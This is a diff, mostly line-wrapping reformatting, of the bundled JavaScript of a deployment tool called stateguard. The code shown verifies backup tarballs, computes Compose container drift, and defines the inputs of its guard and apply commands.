         if (this.entries > this.opts.maxEntries) {
-            this.problem({ code: 'too-many-entries', message: `more than ${this.opts.maxEntries} entries (--max-entries); stopped reading` });
+            this.problem({
+                code: 'too-many-entries',
+                message: `more than ${this.opts.maxEntries} entries (--max-entries); stopped reading`,
+            });
             this.capped = true;
             this.die();
             this.opts.onCap();
@@ -8072,7 +8323,12 @@ class TarWalker {
         const headerShown = shownBytes(prefixBytes.length ? Buffer.concat([prefixBytes, Buffer.from('/'), nameBytes]) : nameBytes);
         let encodingOk = true;
         if (rawName === null || rawPrefix === null) {
-            this.problem({ code: 'bad-encoding', message: `the ${rawName === null ? 'name' : 'prefix'} field is not valid UTF-8 (overlong, surrogate or stray bytes); readers and filesystems disagree on it`, entry: headerShown });
+            this.problem({
+                code: 'bad-encoding',
+                message: `the ${rawName === null ? 'name' : 'prefix'} field is not valid UTF-8 (overlong, surrogate or stray ` +
+                    `bytes); readers and filesystems disagree on it`,
+                entry: headerShown,
+            });
             encodingOk = false;
         }
         const headerName = rawName === null || rawPrefix === null ? null : rawPrefix ? `${rawPrefix}/${rawName}` : rawName;
@@ -8086,7 +8342,9 @@ class TarWalker {
         if (pending?.size !== undefined && pending.size !== headerSize) {
             this.problem({
                 code: 'ambiguous-header',
-                message: `the PAX size record (${pending.size}) disagrees with the header's size field (${headerSize}); readers that apply one or the other find the next header in different places`,
+                message: `the PAX size record ` +
+                    `(${pending.size}) disagrees with the header's size field ` +
+                    `(${headerSize}); readers that apply one or the other find the next header in different places`,
                 entry: shown,
             });
             size = pending.size; // what every restorer we name applies
@@ -8105,7 +8363,8 @@ class TarWalker {
         if (isFile && names.some((n) => n.endsWith('/'))) {
             this.problem({
                 code: 'ambiguous-header',
-                message: "a regular file whose name ends in '/': node-tar and Python make it a directory and read its body as headers, other readers skip the body",
+                message: "a regular file whose name ends in '/': node-tar and Python make it a directory and read its body as " +
+                    'headers, other readers skip the body',
                 entry: shown,
             });
             typeOk = false;
@@ -8113,7 +8372,8 @@ class TarWalker {
         if (!isFile && size !== 0 && (isDir || '123467'.includes(flag))) {
             this.problem({
                 code: 'ambiguous-header',
-                message: `a ${isDir ? 'directory' : 'header-only entry'} with a size of ${size}: some readers skip that many bytes, others read them as the next header`,
+                message: `a ${isDir ? 'directory' : 'header-only entry'} with a size of ` +
+                    `${size}: some readers skip that many bytes, others read them as the next header`,
                 entry: shown,
             });
             typeOk = false;
@@ -8128,10 +8388,18 @@ class TarWalker {
         }
         if (headerName !== null && effective !== headerName) {
             for (const why of pathProblems(headerName)) {
-                this.problem({ code: 'unsafe-path', message: `${why} (in the plain header name, which readers that skip the extension header use)`, entry: printablePath(headerName) });
+                this.problem({
+                    code: 'unsafe-path',
+                    message: `${why} (in the plain header name, which readers that skip the extension header use)`,
+                    entry: printablePath(headerName),
+                });
             }
         }
-        this.opts.onEntry?.({ path: effective ?? headerShown, type: isFile ? 'file' : isDir ? 'directory' : `other:${flag}`, size });
+        this.opts.onEntry?.({
+            path: effective ?? headerShown,
+            type: isFile ? 'file' : isDir ? 'directory' : `other:${flag}`,
+            size,
+        });
         if (isFile && typeOk)
             this.sawFile = true;
         if (typeOk && pathOk && encodingOk && effective !== null && (isFile || isDir)) {
@@ -8147,7 +8415,11 @@ class TarWalker {
                 if (clash)
                     this.problem({ code: clash[0], message: clash[1], entry: shown });
                 if (this.index.full && !this.capped) {
-                    this.problem({ code: 'too-many-entries', message: `more than ${this.opts.maxEntries * 2 + 1024} distinct names and parent directories; stopped reading` });
+                    this.problem({
+                        code: 'too-many-entries',
+                        message: `more than ${this.opts.maxEntries * 2 + 1024} distinct names and parent directories; stopped ` +
+                            `reading`,
+                    });
                     this.capped = true;
                     this.die();
                     this.opts.onCap();
@@ -8168,7 +8440,8 @@ class TarWalker {
         if (segments.length === 1 && !isDir) {
             this.problem({
                 code: 'layout-mismatch',
-                message: `${printablePath(top)} is a regular file at the top level; the top level of a backup of '${layout.module}' holds only its data volumes (${list}) as directories`,
+                message: `${printablePath(top)} is a regular file at the top level; the top level of a backup of ` +
+                    `'${layout.module}' holds only its data volumes (${list}) as directories`,
                 entry: shown,
             });
             return;
@@ -8183,7 +8456,9 @@ class TarWalker {
             this.outsideReported.add(top);
         this.problem({
             code: 'layout-mismatch',
-            message: `top-level directory ${printablePath(top)} is not a declared data volume of '${layout.module}' (${list}); a backup holds one directory per declared volume`,
+            message: `top-level directory ` +
+                `${printablePath(top)} is not a declared data volume of ` +
+                `'${layout.module}' (${list}); a backup holds one directory per declared volume`,
             entry: shown,
         });
     }
@@ -8206,7 +8481,10 @@ class TarWalker {
         if (mode.kind === 'dead' && !this.sawEnd)
             return;
         if (this.entries > 0 && !this.sawFile) {
-            this.problem({ code: 'no-files', message: "the archive holds no regular file (only directories, or only '.'): there is nothing to restore" });
+            this.problem({
+                code: 'no-files',
+                message: "the archive holds no regular file (only directories, or only '.'): there is nothing to restore",
+            });
         }
         const layout = this.opts.layout;
         if (layout && this.entries > 0) {
@@ -8214,7 +8492,10 @@ class TarWalker {
             if (missing.length) {
                 this.problem({
                     code: 'layout-mismatch',
-                    message: `declared data volume${missing.length > 1 ? 's' : ''} ${missing.join(', ')} of '${layout.module}' ${missing.length > 1 ? 'are' : 'is'} missing from the archive (expected one top-level directory per volume: ${layout.volumes.join(', ')})`,
+                    message: `declared data ` +
+                        `volume${missing.length > 1 ? 's' : ''} ${missing.join(', ')} of '${layout.module}' ` +
+                        `${missing.length > 1 ? 'are' : 'is'} missing from the archive (expected one top-level directory per ` +
+                        `volume: ${layout.volumes.join(', ')})`,
                 });
             }
         }
@@ -8295,7 +8576,10 @@ async function inspectArchive(source, limits, options) {
             head = Buffer.concat([head, chunk.subarray(0, 2)]);
             if (head.length >= 2) {
                 if (head[0] === 0x1f && head[1] === 0x8b) {
-                    problems.add({ code: 'tar-corrupt', message: 'the gzip stream contains another gzip stream, not a tar archive' });
+                    problems.add({
+                        code: 'tar-corrupt',
+                        message: 'the gzip stream contains another gzip stream, not a tar archive',
+                    });
                     feedWalker = false;
                 }
                 head = null;
@@ -8329,7 +8613,8 @@ async function inspectArchive(source, limits, options) {
         if (uncompressed > limits.maxUncompressedBytes) {
             problems.add({
                 code: 'too-large',
-                message: `uncompressed content exceeds ${limits.maxUncompressedBytes} bytes (--max-uncompressed-bytes); stopped reading`,
+                message: `uncompressed content exceeds ` +
+                    `${limits.maxUncompressedBytes} bytes (--max-uncompressed-bytes); stopped reading`,
             });
             stop();
             return;
@@ -8353,7 +8638,10 @@ async function inspectArchive(source, limits, options) {
                 // Check the magic ourselves: zlib would say "incorrect header check" for a plain tar,
                 // which hides the likely cause.
                 if (chunk.length >= 2 && !(chunk[0] === 0x1f && chunk[1] === 0x8b)) {
-                    problems.add({ code: 'gzip-corrupt', message: 'not a gzip file (no gzip magic bytes); a plain tar or another format named .tar.gz?' });
+                    problems.add({
+                        code: 'gzip-corrupt',
+                        message: 'not a gzip file (no gzip magic bytes); a plain tar or another format named .tar.gz?',
+                    });
                     stopped = true;
                     gunzip.destroy();
                 }
@@ -8412,7 +8700,10 @@ const NAME_RE = /^([a-z0-9](?:[a-z0-9-]{0,61}[a-z0-9])?)-(\d{8}T\d{6}Z)\.tar\.gz
 const STAMP_RE = /^(\d{4})(\d{2})(\d{2})T(\d{2})(\d{2})(\d{2})Z$/;
 /** `20260131T235959Z` for a Date (UTC, second precision). */
 function formatStamp(date) {
-    return date.toISOString().replace(/\.\d{3}Z$/, 'Z').replace(/[-:]/g, '');
+    return date
+        .toISOString()
+        .replace(/\.\d{3}Z$/, 'Z')
+        .replace(/[-:]/g, '');
 }
 /** The Date a stamp names, or null when it is not a real UTC calendar time. */
 function parseStamp(stamp) {
@@ -8442,7 +8733,11 @@ function checkArchiveName(fileName, allowed, maxAgeHours, now) {
         // Say "bad stamp" when an allowed module name is clearly there and only the stamp is off.
         const looksLikeOurs = fileName.endsWith(ARCHIVE_SUFFIX) && allowed.some((a) => fileName.startsWith(`${a}-`));
         problems.push(looksLikeOurs
-            ? { code: 'bad-stamp', message: `the time stamp in ${JSON.stringify(fileName)} is not YYYYMMDDTHHMMSSZ (UTC, e.g. 20260131T235959Z); expected ${expected}` }
+            ? {
+                code: 'bad-stamp',
+                message: `the time stamp in ` +
+                    `${JSON.stringify(fileName)} is not YYYYMMDDTHHMMSSZ (UTC, e.g. 20260131T235959Z); expected ${expected}`,
+            }
             : { code: 'bad-name', message: `${JSON.stringify(fileName)} is not named ${expected}` });
         return { matchedModule: null, createdAt: null, problems };
     }
@@ -8462,18 +8757,25 @@ function checkArchiveName(fileName, allowed, maxAgeHours, now) {
     const ageMs = now.getTime() - createdAt.getTime();
     if (!Number.isFinite(maxAgeHours) || maxAgeHours <= 0) {
         // The schema forbids this; a module built in code must not get "any age" by accident.
-        problems.push({ code: 'too-old', message: `backup.max_age_hours is ${maxAgeHours}: no backup age can be accepted` });
+        problems.push({
+            code: 'too-old',
+            message: `backup.max_age_hours is ${maxAgeHours}: no backup age can be accepted`,
+        });
     }
     else if (ageMs < -FUTURE_SKEW_MS) {
         problems.push({
             code: 'stamp-in-future',
-            message: `the time stamp ${stamp} is ${Math.round(-ageMs / 60000)} minutes in the future (more than 5 minutes of clock skew); check the clocks or the file name`,
+            message: `the time stamp ` +
+                `${stamp} is ${Math.round(-ageMs / 60000)} minutes in the future (more than 5 minutes of clock skew); check ` +
+                `the clocks or the file name`,
         });
     }
     else if (ageMs > maxAgeHours * 3600 * 1000) {
         problems.push({
             code: 'too-old',
-            message: `the backup is ${(ageMs / 3600000).toFixed(1)} hours old; this module accepts at most ${maxAgeHours} hours (backup.max_age_hours). Take a fresh snapshot.`,
+            message: `the backup is ` +
+                `${(ageMs / 3600000).toFixed(1)} hours old; this module accepts at most ` +
+                `${maxAgeHours} hours (backup.max_age_hours). Take a fresh snapshot.`,
         });
     }
     return { matchedModule, createdAt, problems };
@@ -8547,21 +8849,34 @@ async function readChecksumFile(archiveReal, refName, roots) {
         if (!st.isFile())
             return { problem: { code: 'checksum-unreadable', message: `${shown} is not a regular file` } };
         if (st.size > MAX_CHECKSUM_FILE) {
-            return { problem: { code: 'checksum-unreadable', message: `${shown} is ${st.size} bytes; a checksum file is one line` } };
+            return {
+                problem: { code: 'checksum-unreadable', message: `${shown} is ${st.size} bytes; a checksum file is one line` },
+            };
         }
         const text = (await fh.readFile()).toString('utf8');
-        const line = text.split(/\r?\n/).find((l) => l.trim() !== '')?.trim() ?? '';
+        const line = text
+            .split(/\r?\n/)
+            .find((l) => l.trim() !== '')
+            ?.trim() ?? '';
         // `sha256sum` writes `<hex>  <name>` (or `<hex> *<name>` in binary mode); a bare hex is accepted too.
         const m = /^([0-9a-fA-F]{64})(?:\s+\*?(.+))?$/.exec(line);
         if (!m) {
-            return { problem: { code: 'checksum-unreadable', message: `${shown} is not '<sha256 hex>  <file name>' (as sha256sum writes it)` } };
+            return {
+                problem: {
+                    code: 'checksum-unreadable',
+                    message: `${shown} is not '<sha256 hex>  <file name>' (as sha256sum writes it)`,
+                },
+            };
         }
         const named = m[2]?.trim();
-        if (named !== undefined && external_node_path_default().basename(named) !== external_node_path_default().basename(archiveReal) && external_node_path_default().basename(named) !== refName) {
+        if (named !== undefined &&
+            external_node_path_default().basename(named) !== external_node_path_default().basename(archiveReal) &&
+            external_node_path_default().basename(named) !== refName) {
             return {
                 problem: {
                     code: 'checksum-mismatch',
-                    message: `${shown} is the checksum of ${JSON.stringify(named.slice(0, 200))}, not of ${external_node_path_default().basename(archiveReal)}`,
+                    message: `${shown} is the checksum of ` +
+                        `${JSON.stringify(named.slice(0, 200))}, not of ${external_node_path_default().basename(archiveReal)}`,
                 },
             };
         }
@@ -8593,7 +8908,10 @@ async function verifyBackup(input) {
     }
     catch (err) {
         // Defence in depth: nothing above should throw, but if it does the answer is still "no".
-        report.problems.push({ code: 'unreadable', message: `verification failed: ${err?.message ?? String(err)}` });
+        report.problems.push({
+            code: 'unreadable',
+            message: `verification failed: ${err?.message ?? String(err)}`,
+        });
     }
     report.verified = report.problems.length === 0;
     return report;
@@ -8607,13 +8925,15 @@ function expectedLayout(matched, input) {
     if (!decl) {
         return {
             code: 'layout-mismatch',
-            message: `the backup is named for module '${matched}', whose declaration was not found, so the layout it must have is unknown`,
+            message: `the backup is named for module ` +
+                `'${matched}', whose declaration was not found, so the layout it must have is unknown`,
         };
     }
     if (decl.volumes.length === 0) {
         return {
             code: 'no-data-volumes',
-            message: `module '${matched}' (which the backup's name matched) declares no data volumes (spec.data.volumes), so no archive has its layout; a backup of it cannot be accepted`,
+            message: `module '${matched}' (which the backup's name matched) declares no data volumes (spec.data.volumes), ` +
+                `so no archive has its layout; a backup of it cannot be accepted`,
         };
     }
     return { module: decl.name, volumes: decl.volumes.map((v) => v.volume) };
@@ -8628,7 +8948,8 @@ async function verifyInto(report, input, absRef) {
     if (!mod.backup) {
         problems.push({
             code: 'no-backup-config',
-            message: `module '${mod.name}' declares no backup: section (ref_modules, max_age_hours), so no backup can be accepted for it`,
+            message: `module '${mod.name}' declares no backup: section (ref_modules, max_age_hours), so no backup can be ` +
+                `accepted for it`,
         });
     }
     // ---- where is it, really? ----
@@ -8660,7 +8981,8 @@ async function verifyInto(report, input, absRef) {
             const missingNote = missing.length ? ` (roots that do not exist: ${missing.join(', ')})` : '';
             problems.push({
                 code: 'outside-backup-root',
-                message: `${real} (the real path, symlinks resolved) is not inside a backup root: ${roots.join(', ') || 'none exist'}${missingNote}`,
+                message: `${real} (the real path, symlinks resolved) is not inside a backup root: ` +
+                    `${roots.join(', ') || 'none exist'}${missingNote}`,
             });
         }
     }
@@ -8685,7 +9007,10 @@ async function verifyInto(report, input, absRef) {
     }
     else if (problems.length === 0) {
         // Unreachable (no match always comes with a name problem), but never verify without a layout.
-        problems.push({ code: 'layout-mismatch', message: 'the backup matched no module, so the layout it must have is unknown' });
+        problems.push({
+            code: 'layout-mismatch',
+            message: 'the backup matched no module, so the layout it must have is unknown',
+        });
     }
     let fh;
     try {
@@ -8710,13 +9035,19 @@ async function verifyInto(report, input, absRef) {
             return;
         }
         if (!st.isFile()) {
-            problems.push({ code: 'not-a-regular-file', message: `${real} is not a regular file (a device, FIFO or socket)` });
+            problems.push({
+                code: 'not-a-regular-file',
+                message: `${real} is not a regular file (a device, FIFO or socket)`,
+            });
             return;
         }
         // The descriptor, not the name, is what gets read: confirm it is the file inside the root.
         const viaProc = await (0,promises_namespaceObject.readlink)(`/proc/self/fd/${fh.fd}`).catch(() => null);
         if (viaProc !== null && viaProc !== real) {
-            problems.push({ code: 'outside-backup-root', message: `${real} was replaced while being opened (now ${viaProc})` });
+            problems.push({
+                code: 'outside-backup-root',
+                message: `${real} was replaced while being opened (now ${viaProc})`,
+            });
             return;
         }
         report.bytes = st.size;
@@ -8741,7 +9072,10 @@ async function verifyInto(report, input, absRef) {
         if (inspection.readToEnd) {
             report.sha256 = inspection.sha256;
             if (inspection.bytesRead !== st.size) {
-                problems.push({ code: 'unreadable', message: `${real} changed size while being read (${st.size} -> ${inspection.bytesRead} bytes)` });
+                problems.push({
+                    code: 'unreadable',
+                    message: `${real} changed size while being read (${st.size} -> ${inspection.bytesRead} bytes)`,
+                });
             }
             if (checksum && 'expected' in checksum) {
                 if (checksum.expected === inspection.sha256)
@@ -8749,7 +9083,8 @@ async function verifyInto(report, input, absRef) {
                 else {
                     problems.push({
                         code: 'checksum-mismatch',
-                        message: `sha256 is ${inspection.sha256} but ${external_node_path_default().basename(real)}${CHECKSUM_SUFFIX} says ${checksum.expected}`,
+                        message: `sha256 is ${inspection.sha256} but ${external_node_path_default().basename(real)}${CHECKSUM_SUFFIX} says ` +
+                            `${checksum.expected}`,
                     });
                 }
             }
@@ -8763,8 +9098,8 @@ async function verifyInto(report, input, absRef) {
     }
 }
 
-// EXTERNAL MODULE: ./src/runtime/image-ref.ts
-var image_ref = __nccwpck_require__(8533);
+// EXTERNAL MODULE: ./src/drift/image-ref.ts
+var image_ref = __nccwpck_require__(5158);
 ;// CONCATENATED MODULE: ./src/probe/shell-words.ts
 /**
  * Splits the action's `run` string into an argument vector, the way a POSIX shell splits words —
@@ -9157,7 +9492,7 @@ function mountTargets(v) {
             out.push((parts.length >= 2 ? parts[1] : parts[0]).replace(/\/+$/, '') || '/');
         }
         else if (m && typeof m === 'object' && typeof m.target === 'string') {
-            out.push((m.target.replace(/\/+$/, '') || '/'));
+            out.push(m.target.replace(/\/+$/, '') || '/');
         }
     }
     return out.sort();
@@ -9304,8 +9639,10 @@ function otherComposeVersion(replicas, declared) {
     return found.length ? found.join(', ') : null;
 }
 function composeVersionNote(found, declared) {
-    return (`created by compose ${found}, planned with compose ${declared.composeVersion}: config hashes of different compose versions ` +
-        `need not agree. Recreate it with the compose you plan with, or plan with the compose that created it (STATEGUARD_COMPOSE=v1|v2)`);
+    return (`created by compose ` +
+        `${found}, planned with compose ${declared.composeVersion}: config hashes of different compose versions ` +
+        `need not agree. Recreate it with the compose you plan with, or plan with the compose that created it ` +
+        `(STATEGUARD_COMPOSE=v1|v2)`);
 }
 /** Field-level differences of the replicas whose config differs (distinct, in first-seen order). */
 function fieldsOf(replicas, declared) {
@@ -9349,7 +9686,7 @@ const SEVERITY = ['running', 'dead', 'exited-nonzero', 'never-started', 'stale-c
 function ranDeclaredConfig(c, configHash, record) {
     if (c.configHash === configHash)
         return true;
-    return !!record && record.container_id === c.id && record.label_hash === c.configHash && record.config_hash === configHash;
+    return (!!record && record.container_id === c.id && record.label_hash === c.configHash && record.config_hash === configHash);
 }
 function oneShotReason(c, configHash, record) {
     switch (c.state) {
@@ -9462,12 +9799,20 @@ function computeDrift(module, containers, declared, record) {
         }
         const notRunning = replicas.filter((c) => c.state !== 'running');
         if (notRunning.length > 0) {
-            items.push({ key: 'container.state.running', declared: 'running', observed: replicaText(notRunning.map(stateText), replicas.length) });
+            items.push({
+                key: 'container.state.running',
+                declared: 'running',
+                observed: replicaText(notRunning.map(stateText), replicas.length),
+            });
         }
         // Health is judged on running replicas only: a stopped container's last health is history.
         const unhealthy = replicas.filter((c) => c.state === 'running' && c.health === 'unhealthy');
         if (unhealthy.length > 0) {
-            items.push({ key: 'container.health', declared: 'healthy', observed: replicaText(unhealthy.map(() => 'unhealthy'), replicas.length) });
+            items.push({
+                key: 'container.health',
+                declared: 'healthy',
+                observed: replicaText(unhealthy.map(() => 'unhealthy'), replicas.length),
+            });
         }
     }
     if (replicas.length > 0) {
@@ -9483,7 +9828,12 @@ function computeDrift(module, containers, declared, record) {
     }
     if (module.expectedState === 'exited-success') {
         if (replicas.length === 0) {
-            items.push({ key: 'container.state.exited_success', declared: 'exited (0)', observed: 'missing', reason: 'no-container' });
+            items.push({
+                key: 'container.state.exited_success',
+                declared: 'exited (0)',
+                observed: 'missing',
+                reason: 'no-container',
+            });
         }
         else {
             const failing = replicas
@@ -9492,7 +9842,9 @@ function computeDrift(module, containers, declared, record) {
             if (failing.length > 0) {
                 const worst = SEVERITY.find((r) => failing.some((f) => f.reason === r));
                 const shown = failing.filter((f) => f.reason === worst);
-                const other = worst === 'stale-config' ? otherComposeVersion(shown.map((f) => f.c), declared) : null;
+                const other = worst === 'stale-config'
+                    ? otherComposeVersion(shown.map((f) => f.c), declared)
+                    : null;
                 const observed = worst !== 'stale-config'
                     ? shown.map((f) => stateText(f.c))
                     : other
@@ -9503,7 +9855,11 @@ function computeDrift(module, containers, declared, record) {
                     declared: 'exited (0)',
                     observed: replicaText(observed, replicas.length),
                     reason: worst,
-                    ...(worst === 'stale-config' ? { fields: fieldsOf(shown.map((f) => f.c), declared) } : {}),
+                    ...(worst === 'stale-config'
+                        ? {
+                            fields: fieldsOf(shown.map((f) => f.c), declared),
+                        }
+                        : {}),
                 });
             }
         }
@@ -9555,7 +9911,8 @@ async function planModules(modules, runtime, opts = {}) {
     if (opts.only) {
         const unknown = opts.only.filter((n) => !modules.some((m) => m.name === n));
         if (unknown.length > 0) {
-            throw new src_errors/* UserError */.yo(`module ${unknown.map((n) => JSON.stringify(n)).join(', ')} is not declared; known modules: ${modules.map((m) => m.name).join(', ')}.`, 
+            throw new src_errors/* UserError */.yo(`module ${unknown.map((n) => JSON.stringify(n)).join(', ')} is not declared; known modules: ` +
+                `${modules.map((m) => m.name).join(', ')}.`, 
             // A usage error (exit 3), as in pickModule: nothing was judged.
             { input: 'module', reason: 'module-not-found' });
         }
@@ -9563,14 +9920,23 @@ async function planModules(modules, runtime, opts = {}) {
     }
     // Unreachable engine: fail here with the DOCKER_HOST/context message, before compose prints its own.
     // The compose probe needs no engine, so it runs meanwhile; the engine's error wins.
-    const [pinged, probed] = await Promise.allSettled([selected.length ? runtime.ping() : Promise.resolve(), runtime.composeInfo()]);
+    const [pinged, probed] = await Promise.allSettled([
+        selected.length ? runtime.ping() : Promise.resolve(),
+        runtime.composeInfo(),
+    ]);
     if (pinged.status === 'rejected')
         throw pinged.reason;
     if (probed.status === 'rejected')
         throw probed.reason;
     const compose = probed.value;
     if (selected.length === 0) {
-        return { schema: 'stateguard/plan/v1', compose, modules: [], summary: { modules: 0, drifted: 0 }, plan_hash: planHash([]) };
+        return {
+            schema: 'stateguard/plan/v1',
+            compose,
+            modules: [],
+            summary: { modules: 0, drifted: 0 },
+            plan_hash: planHash([]),
+        };
     }
     const projects = [...new Set(selected.map((m) => m.compose.project))];
     const renderGroups = new Map();
@@ -9579,7 +9945,9 @@ async function planModules(modules, runtime, opts = {}) {
         renderGroups.set(k, [...(renderGroups.get(k) ?? []), m]);
     }
     // stateguard's run records, for the projects that hold a one-shot (see computeDrift).
-    const oneShotProjects = [...new Set(selected.filter((m) => m.expectedState === 'exited-success').map((m) => m.compose.project))];
+    const oneShotProjects = [
+        ...new Set(selected.filter((m) => m.expectedState === 'exited-success').map((m) => m.compose.project)),
+    ];
     const [containerLists, renders, recordLists] = await Promise.all([
         Promise.all(projects.map((p) => runtime.listProjectContainers(p))),
         Promise.all([...renderGroups.values()].map(async (group) => {
@@ -9590,7 +9958,9 @@ async function planModules(modules, runtime, opts = {}) {
             catch (err) {
                 if (err instanceof src_errors/* EnvironmentError */.eG)
                     throw err;
-                throw new src_errors/* UserError */.yo(`compose cannot render ${first.compose.display} (project '${first.compose.project}') for module ${describeModules(group)}: ${(0,src_errors/* errorMessage */.gJ)(err)}`, { reason: 'compose-error' });
+                throw new src_errors/* UserError */.yo(`compose cannot render ` +
+                    `${first.compose.display} (project '${first.compose.project}') for module ` +
+                    `${describeModules(group)}: ${(0,src_errors/* errorMessage */.gJ)(err)}`, { reason: 'compose-error' });
             }
         })),
         Promise.all(oneShotProjects.map((p) => runtime.readRunRecords(p))),
@@ -9606,7 +9976,8 @@ async function planModules(modules, runtime, opts = {}) {
         const hash = rendered.hashes[m.compose.service];
         if (!service || !hash) {
             throw new src_errors/* UserError */.yo(`compose did not render service '${m.compose.service}' of module '${m.name}' from ${m.compose.display} ` +
-                `(project '${m.compose.project}'${service ? '; no config hash for it' : ''}); check the service name and any profiles.`, { reason: 'compose-error' });
+                `(project '${m.compose.project}'${service ? '; no config hash for it' : ''}); check the service name and ` +
+                `any profiles.`, { reason: 'compose-error' });
         }
         let image = typeof service.image === 'string' && service.image.trim() !== '' ? service.image.trim() : undefined;
         image ??= builtImageName(compose.flavor, m.compose.project, m.compose.service);
@@ -9615,7 +9986,11 @@ async function planModules(modules, runtime, opts = {}) {
     const imageIds = await runtime.imageIds([...new Set(declaredParts.map((d) => d.image))]);
     const planned = selected.map((m, i) => {
         const part = declaredParts[i];
-        const declared = { ...part, imageId: imageIds[part.image] ?? null, composeVersion: compose.version };
+        const declared = {
+            ...part,
+            imageId: imageIds[part.image] ?? null,
+            composeVersion: compose.version,
+        };
         const containers = (containersByProject.get(m.compose.project) ?? []).filter((c) => c.service === m.compose.service);
         const record = m.expectedState === 'exited-success'
             ? ((recordsByProject.get(m.compose.project) ?? []).find((r) => r.service === m.compose.service) ?? null)
@@ -9694,13 +10069,41 @@ const GUARD_INPUTS = [
     spec/* ROOT_INPUT */.kQ,
     spec/* MODULES_INPUT */.zD,
     { name: 'module', kind: 'string', required: true, description: 'The module to decide on.' },
-    { name: 'allow-stateful', kind: 'boolean', default: 'false', description: "Must be exactly 'true' to change a stateful or sidecar module." },
-    { name: 'backup-ref', kind: 'string', description: 'Path of the backup (.tar.gz) that covers the module; verified with the verify-backup rules.' },
-    { name: 'backup-root', kind: 'list', description: 'Allowed backup directories (repeatable; one per line in the action). None means every backup is refused.' },
+    {
+        name: 'allow-stateful',
+        kind: 'boolean',
+        default: 'false',
+        description: "Must be exactly 'true' to change a stateful or sidecar module.",
+    },
+    {
+        name: 'backup-ref',
+        kind: 'string',
+        description: 'Path of the backup (.tar.gz) that covers the module; verified with the verify-backup rules.',
+    },
+    {
+        name: 'backup-root',
+        kind: 'list',
+        description: 'Allowed backup directories (repeatable; one per line in the action). None means every backup is refused.',
+    },
     { name: 'confirm', kind: 'string', description: 'Must equal confirm-token exactly (case-sensitive). Never echoed.' },
-    { name: 'confirm-token', kind: 'string', default: 'BACKUP_DONE', description: 'The confirmation token this repo uses.' },
-    { name: 'max-uncompressed-bytes', kind: 'size', default: '64G', description: 'verify-backup cap: reject the backup past this many uncompressed bytes.' },
-    { name: 'max-entries', kind: 'integer', default: '1000000', description: 'verify-backup cap: reject the backup past this many entries.' },
+    {
+        name: 'confirm-token',
+        kind: 'string',
+        default: 'BACKUP_DONE',
+        description: 'The confirmation token this repo uses.',
+    },
+    {
+        name: 'max-uncompressed-bytes',
+        kind: 'size',
+        default: '64G',
+        description: 'verify-backup cap: reject the backup past this many uncompressed bytes.',
+    },
+    {
+        name: 'max-entries',
+        kind: 'integer',
+        default: '1000000',
+        description: 'verify-backup cap: reject the backup past this many entries.',
+    },
 ];
 /** The guard's options as evaluateGuard takes them; apply re-runs the guard with the same. */
 function guardRequest(opts, set, module, ctx) {
@@ -9729,7 +10132,11 @@ function guardText(r) {
     const head = `guard ${r.module}: ${r.decision}${r.drift_keys.length ? ` (drift: ${r.drift_keys.join(', ')})` : ''}`;
     if (r.decision !== 'blocked')
         return head;
-    return [head, `failure-reason: ${r.failure_reason}`, ...r.reasons.map((x, i) => `  ${i + 1}. [${x.code}] ${x.message}\n     fix: ${x.fix}`)].join('\n');
+    return [
+        head,
+        `failure-reason: ${r.failure_reason}`,
+        ...r.reasons.map((x, i) => `  ${i + 1}. [${x.code}] ${x.message}\n     fix: ${x.fix}`),
+    ].join('\n');
 }
 function guardSummary(r) {
     const icon = r.decision === 'blocked' ? '⛔' : r.decision === 'no-op' ? '✅' : '🟢';
@@ -9753,13 +10160,20 @@ const guardCommand = (0,spec/* defineCommand */.NB)({
     outputs: [
         { name: 'decision', description: 'allowed, no-op or blocked.' },
         { name: 'reasons', description: 'JSON array of every failed condition: {code, message, fix, input}.' },
-        { name: 'plan-hash', description: "plan_hash of the module's fresh plan (what apply's expected-plan-hash compares with)." },
+        {
+            name: 'plan-hash',
+            description: "plan_hash of the module's fresh plan (what apply's expected-plan-hash compares with).",
+        },
         spec/* FAILURE_REASON_OUTPUT */.eX,
     ],
     async run(opts, ctx) {
         const set = (0,common/* loadValidModules */.uh)(opts, ctx);
         const module = (0,common/* pickModule */.ek)(set, opts.module);
-        const ev = await evaluateGuard(guardRequest(opts, set, module, ctx), { runtime: ctx.runtime(), planModules: planModules, verifyBackup: verifyBackup });
+        const ev = await evaluateGuard(guardRequest(opts, set, module, ctx), {
+            runtime: ctx.runtime(),
+            planModules: planModules,
+            verifyBackup: verifyBackup,
+        });
         const r = ev.result;
         const exitCode = guardExitCode(r);
         return {
@@ -9773,14 +10187,21 @@ const guardCommand = (0,spec/* defineCommand */.NB)({
                 'failure-reason': r.failure_reason,
             },
             summary: guardSummary(r),
-            annotations: r.reasons.map((x) => ({ level: 'error', title: `stateguard guard: ${x.code}`, message: `${x.message} — fix: ${x.fix}` })),
+            annotations: r.reasons.map((x) => ({
+                level: 'error',
+                title: `stateguard guard: ${x.code}`,
+                message: `${x.message} — fix: ${x.fix}`,
+            })),
             failureReason: r.failure_reason === '' ? undefined : r.failure_reason,
         };
     },
 });
 
 ;// CONCATENATED MODULE: ./src/commands/apply.ts
-/** `stateguard apply`: re-run a one-shot module under a lock, after a fresh plan and guard (docs/architecture.md §6). */
+/**
+ * `stateguard apply`: re-run a one-shot module under a lock, after a fresh plan and guard
+ * (docs/architecture.md §6).
+ */
 
 
 
@@ -9834,9 +10255,25 @@ const applyCommand = (0,spec/* defineCommand */.NB)({
     description: 'Re-run a one-shot module until it exits 0, under a lock, after a fresh plan and guard.',
     inputs: [
         ...GUARD_INPUTS,
-        { name: 'expected-plan-hash', kind: 'string', description: 'plan_hash of the reviewed plan (stateguard plan --module NAME); refuse (plan-changed) when the fresh plan differs.' },
-        { name: 'break-stale-lock', kind: 'boolean', default: 'false', description: "Exactly 'true' removes a stale apply lock (older than the stale bound) before taking it. Make sure no apply is running." },
-        { name: 'lock-stale-after-minutes', kind: 'integer', default: '120', description: 'A lock older than this (and older than timeout_seconds + 10 min) counts as stale.' },
+        {
+            name: 'expected-plan-hash',
+            kind: 'string',
+            description: 'plan_hash of the reviewed plan (stateguard plan --module NAME); refuse (plan-changed) when the fresh plan ' +
+                'differs.',
+        },
+        {
+            name: 'break-stale-lock',
+            kind: 'boolean',
+            default: 'false',
+            description: "Exactly 'true' removes a stale apply lock (older than the stale bound) before taking it. Make sure no apply " +
+                'is running.',
+        },
+        {
+            name: 'lock-stale-after-minutes',
+            kind: 'integer',
+            default: '120',
+            description: 'A lock older than this (and older than timeout_seconds + 10 min) counts as stale.',
+        },
         spec/* JSON_INPUT */.sz,
     ],
     outputs: [
